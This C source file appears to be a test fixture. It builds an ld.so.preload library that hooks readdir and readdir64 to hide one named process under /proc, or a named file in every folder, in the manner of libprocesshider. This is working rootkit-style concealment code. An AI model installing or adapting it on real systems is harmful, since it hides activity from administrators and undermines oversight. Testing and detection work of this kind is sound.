/* A library for /etc/ld.so.preload that leaves one name out of listings, as libprocesshider does.  Harmless: it knows
   the one name that the test compiled into it, and changes nothing else.

   cc -shared -fPIC -DHIDDEN='"1234"' -o libhides.so hides.c -ldl    hides /proc/1234, nothing of that name elsewhere
   cc -shared -fPIC -DNAME='"x"' ...                                 hides x in every folder */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#ifdef NAME
#define HIDDEN NAME
#endif

static int hides_in(DIR *folder)
{
#ifdef NAME
    return folder != NULL;
#else
    char link[64], where[16];
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(folder));
    ssize_t length = readlink(link, where, sizeof where);
    return length == 5 && memcmp(where, "/proc", 5) == 0;
#endif
}

#define HIDING(entry, function)                                              \
    struct entry *function(DIR *folder)                                      \
    {                                                                        \
        static struct entry *(*real)(DIR *);                                 \
        struct entry *found;                                                 \
        if (!real)                                                           \
            real = (struct entry *(*)(DIR *)) dlsym(RTLD_NEXT, #function);   \
        do                                                                   \
            found = real(folder);                                            \
        while (found && strcmp(found->d_name, HIDDEN) == 0 && hides_in(folder)); \
        return found;                                                        \
    }

HIDING(dirent, readdir)
HIDING(dirent64, readdir64)
